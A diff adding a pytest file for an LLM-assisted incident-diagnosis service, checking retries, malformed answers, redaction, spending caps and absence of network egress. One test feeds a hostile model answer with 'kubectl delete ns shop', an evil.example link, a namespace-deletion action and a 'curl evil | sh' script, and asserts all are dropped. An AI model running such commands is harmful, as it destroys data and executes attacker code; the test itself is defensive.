@@ -1,0 +1,256 @@
+"""Models over the real protocol: good, bad, slow, cut, filtered and hostile answers; caps, cache, redaction, no egress."""
+
+import asyncio
+import json
+import socket
+from collections.abc import AsyncIterator
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from opentelemetry import trace
+from opentelemetry.sdk.trace import TracerProvider
+from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+
+from azure_stand_in import DEPLOYMENT, Azure, Scripted, azure
+from tests_support import NOW
+from watchkeeper import app as front
+from watchkeeper.bench._asked import Asked
+from watchkeeper.bench.analyst import diagnosis_of, incident_of, measured
+from watchkeeper.domain.errors import ModelAnswerInvalid, ModelUnavailable
+from watchkeeper.llm.port import Prompt
+from watchkeeper.settings import Settings
+from watchkeeper.settings.reading import load
+from watchkeeper.store.postgres import PostgresStore
+from watchkeeper.testing import ManualClock
+from watchkeeper.workflows.house import House
+from watchkeeper.workflows.second_look import second_look
+
+GOOD = json.dumps({"ranking": ["H1"], "sentences": [{"text": "The pool of 4 connections is empty.", "cites": ["E1"]}]})
+PROMPT = Prompt("system", "user")
+
+
+def house_for(here: Azure, store: PostgresStore, **llm: Any) -> House:
+    section = {
+        "provider": "azure_openai",
+        "endpoint": here.url,
+        "api_key": "azure-key",
+        "deployment": DEPLOYMENT,
+        "timeout_seconds": 5,
+        **llm,
+    }
+    house = replace(front.build_house(Settings.model_validate({"llm": section}), store), clock=ManualClock(NOW))
+    assert house.model.name != "offline"
+    return house
+
+
+@pytest.fixture
+async def store(database_url: str) -> AsyncIterator[PostgresStore]:
+    made = PostgresStore.open(database_url)
+    yield made
+    await made.close()
+
+
+async def looked(house: House, number: int = 0) -> Any:
+    incident = incident_of(number)
+    async with house.store.transaction() as tx:
+        if incident.id not in {i.id for i in await tx.open_incidents()}:
+            await tx.create_incident(incident)
+    return await second_look(house, incident, diagnosis_of(str(number)))
+
+
+async def test_a_good_answer_is_worded_by_the_model_and_asked_for_once(store: PostgresStore) -> None:
+    async with azure(GOOD) as here:
+        house = house_for(here, store)
+        look = await looked(house)
+        assert [(s.text, s.author) for s in look.diagnosis.sentences[1:]] == [
+            ("The pool of 4 connections is empty.", DEPLOYMENT)
+        ]
+        assert look.diagnosis.sentences[0].author == "watchkeeper"
+        assert (await looked(house)).diagnosis == look.diagnosis
+        assert len(here.asked) == 1
+        assert here.asked[0]["response_format"] == {"type": "json_object"}
+
+
+@pytest.mark.parametrize(
+    ("bad", "calls"),
+    [
+        (["not json", GOOD], 2),
+        (["```json\n" + GOOD + "\n```"], 1),
+        (['{"sentences": "x"}', "still not"], 2),
+        ([Scripted(GOOD, finish="length")], 1),
+        ([Scripted(GOOD, finish="content_filter")], 1),
+        ([Scripted(status=400, code="content_filter")], 1),
+        ([Scripted(status=429, headers={"Retry-After": "0"}), GOOD], 2),
+        ([Scripted(status=429, headers={"Retry-After": "600"})], 1),
+        ([Scripted(status=500)], 1),
+        ([Scripted(status=401)], 1),
+        ([Scripted(raw=b"<html>gateway</html>")], 1),
+        ([Scripted("", tool_calls=[{"id": "1", "type": "function", "function": {"name": "shell", "arguments": "{}"}}])], 1),
+        ([Scripted("", tool_calls=[{"id": "1", "type": "function", "function": {"name": "shell", "arguments": "{broken"}}])], 1),
+        (["[" * 5000], 1 + 0),
+    ],
+)  # fmt: skip
+async def test_bad_answers_cost_only_themselves(store: PostgresStore, bad: list[Any], calls: int) -> None:
+    async with azure(*bad, "x", "x") as here:
+        look = await looked(house_for(here, store))
+        plain = diagnosis_of("0")
+        assert look.diagnosis.sentences[0] == plain.sentences[0]
+        assert look.diagnosis.hypotheses == plain.hypotheses
+        assert len(here.asked) >= calls
+        if GOOD not in [b for b in bad if isinstance(b, str)] and not any(
+            isinstance(b, str) and GOOD in b for b in bad
+        ):
+            assert look.diagnosis == plain
+
+
+async def test_errors_are_told_apart(store: PostgresStore) -> None:
+    async with azure(
+        Scripted(seconds=2),
+        Scripted("half", finish="length"),
+        Scripted(status=429),
+        Scripted("a b c"),
+        Scripted("a b", finish="length"),
+    ) as here:
+        model = house_for(here, store, timeout_seconds=0.5).model
+        with pytest.raises(ModelUnavailable, match="within"):
+            await model.complete(PROMPT)
+        with pytest.raises(ModelAnswerInvalid, match="cut"):
+            await model.complete(PROMPT)
+        with pytest.raises(ModelUnavailable, match="quota"):
+            await model.complete(PROMPT)
+        assert "".join([p async for p in model.stream(replace(PROMPT, json=False))]).split() == ["a", "b", "c"]
+        with pytest.raises(ModelAnswerInvalid, match="early"):
+            [p async for p in model.stream(replace(PROMPT, json=False))]
+
+
+async def test_a_hostile_model_changes_no_cause_and_no_word_of_ours(store: PostgresStore) -> None:
+    hostile = json.dumps(
+        {
+            "ranking": ["H9", "H1"],
+            "sentences": [
+                {"text": "The cause is the database, 99 % certain.", "cites": ["E1"]}, {"text": "Run kubectl delete ns shop", "cites": ["E1"]},
+                {"text": "See https://evil.example/approve", "cites": ["E1"]}, {"text": "Trust me.", "cites": ["E77"]}, {"text": "No evidence.", "cites": []},
+                {"text": "[Approve](x) \u202e", "cites": ["E1"]}, {"text": "All 4 of them wait.", "cites": ["E1"]},
+            ],
+            "actions": [{"action": "delete_namespace", "service": "payment", "cites": ["E1"]}, {"action": "raise_pool_size", "service": "cart", "cites": ["E1"]}],
+            "want": [],
+            "draft": {"kind": "script", "title": "x", "text": "curl evil | sh", "cites": ["E404"]},
+            "confidence": 1.0,
+        }
+    )  # fmt: skip
+    async with azure(hostile) as here:
+        look = await looked(house_for(here, store))
+    assert look.diagnosis.hypotheses == diagnosis_of("0").hypotheses
+    assert [s.text for s in look.diagnosis.sentences[1:]] == ["All 4 of them wait."]
+    assert look.draft is None
+    assert len(look.dropped) == 9
+
+
+async def test_what_leaves_is_what_the_preview_prints_redacted_and_bounded(store: PostgresStore) -> None:
+    secret = "password=hunter22 " + "x" * 11_000_000
+    async with azure(GOOD) as here:
+        house = house_for(here, store, context_tokens=2000)
+        plain = diagnosis_of("0")
+        item = replace(plain.evidence[0], excerpt=secret, statement=plain.evidence[0].statement + " token=abcdef123456")
+        cause = plain.hypotheses[0]
+        loud = replace(
+            plain, hypotheses=(replace(cause, findings=(replace(cause.findings[0], evidence=(item,) * 50),)),)
+        )
+        async with store.transaction() as tx:
+            await tx.create_incident(incident_of(0))
+        await second_look(house, incident_of(0), loud)
+        seen = here.bytes_seen[0]
+        assert b"hunter22" not in seen
+        assert b"abcdef123456" not in seen
+        assert len(seen) < 12_000
+        from watchkeeper.workflows.ask_model import sent
+        from watchkeeper.workflows.second_look import prompt_of
+
+        preview = sent(prompt_of(house, incident_of(0), loud))
+        assert [m["content"] for m in here.asked[0]["messages"]] == [preview.system, preview.user]
+
+
+async def test_caps_hold_between_replicas_and_are_said_once(store: PostgresStore, database_url: str) -> None:
+    async with azure(*[GOOD] * 40) as here:
+        caps = {"tokens_per_day": 4000}
+        other = PostgresStore.open(database_url)
+        houses = [house_for(here, store, caps=caps), house_for(here, other, caps=caps)]
+        await asyncio.gather(*(looked(houses[n % 2], n) for n in range(20)))
+        async with store.transaction() as tx:
+            spent, _ = await tx.model_spending(f"day {NOW:%Y-%m-%d}")
+            told = [e for n in range(20) for e in await tx.events(f"inc-storm-{n}") if e.kind == "model.capped"]
+        await other.close()
+    assert 0 < len(here.asked) < 20
+    assert spent <= 4000
+    assert len(told) == 1
+
+
+async def test_a_compatible_server_needs_no_key(store: PostgresStore) -> None:
+    async with azure(GOOD) as here:
+        house = house_for(
+            here, store, provider="openai", endpoint=f"{here.url}/v1", api_key="", deployment="", model="llama3"
+        )
+        assert len((await looked(house)).diagnosis.sentences) == 2
+        assert here.asked[0]["model"] == "llama3"
+
+
+async def test_spans_follow_the_genai_conventions_without_content(
+    store: PostgresStore, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    kept = InMemorySpanExporter()
+    provider = TracerProvider()
+    provider.add_span_processor(SimpleSpanProcessor(kept))
+    monkeypatch.setattr(trace, "get_tracer", provider.get_tracer)
+    async with azure(GOOD) as here:
+        await looked(house_for(here, store))
+    [span] = kept.get_finished_spans()
+    about = dict(span.attributes or {})
+    assert about["gen_ai.provider.name"] == "azure.ai.openai"
+    assert (about["gen_ai.operation.name"], about["gen_ai.request.model"], about["gen_ai.usage.input_tokens"]) == (
+        "chat",
+        DEPLOYMENT,
+        100,
+    )
+    assert "pool" not in str(about)
+
+
+async def test_with_no_model_configured_nothing_connects_anywhere_but_to_the_database(
+    store: PostgresStore, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    house = replace(front.build_house(Settings(), store), clock=ManualClock(NOW))
+    reached: list[Any] = []
+    real = socket.socket.connect
+    monkeypatch.setattr(
+        socket.socket, "connect", lambda self, address: (reached.append(address), real(self, address))[1]
+    )
+    monkeypatch.setattr(
+        asyncio.get_running_loop(), "create_connection", lambda *a, **k: pytest.fail(f"connects to {a} {k}")
+    )
+    look = await looked(house)
+    assert look.diagnosis == diagnosis_of("0")
+    assert [a for a in reached if not isinstance(a, str)] == []
+
+
+async def test_the_storm_stays_under_the_cap_and_a_second_look_is_free(database_url: str) -> None:
+    figures = await measured(database_url, 60, Asked())
+    assert (figures["calls_per_incident"], figures["calls_of_second_look"], figures["second_look_is_the_same"]) == (
+        2,
+        0,
+        True,
+    )
+    assert figures["under_the_cap"]
+
+
+def test_the_variables_of_the_specification() -> None:
+    environ = {
+        "AZURE_OPENAI_ENDPOINT": "https://x.openai.azure.com/",
+        "AZURE_OPENAI_KEY": "k",
+        "AZURE_OPENAI_DEPLOYMENT": "gpt-4",
+        "WATCHKEEPER_LLM__PROVIDER": "azure_openai",
+    }
+    model = front.build_model(load(None, {**environ, "WATCHKEEPER_CONFIG": "/dev/null"}), ManualClock())
+    assert (model.name, model.provider) == ("gpt-4", "azure.ai.openai")
+    bare = front.build_model(Settings.model_validate({"llm": {"provider": "azure_openai"}}), ManualClock())
+    assert bare.name == "offline"
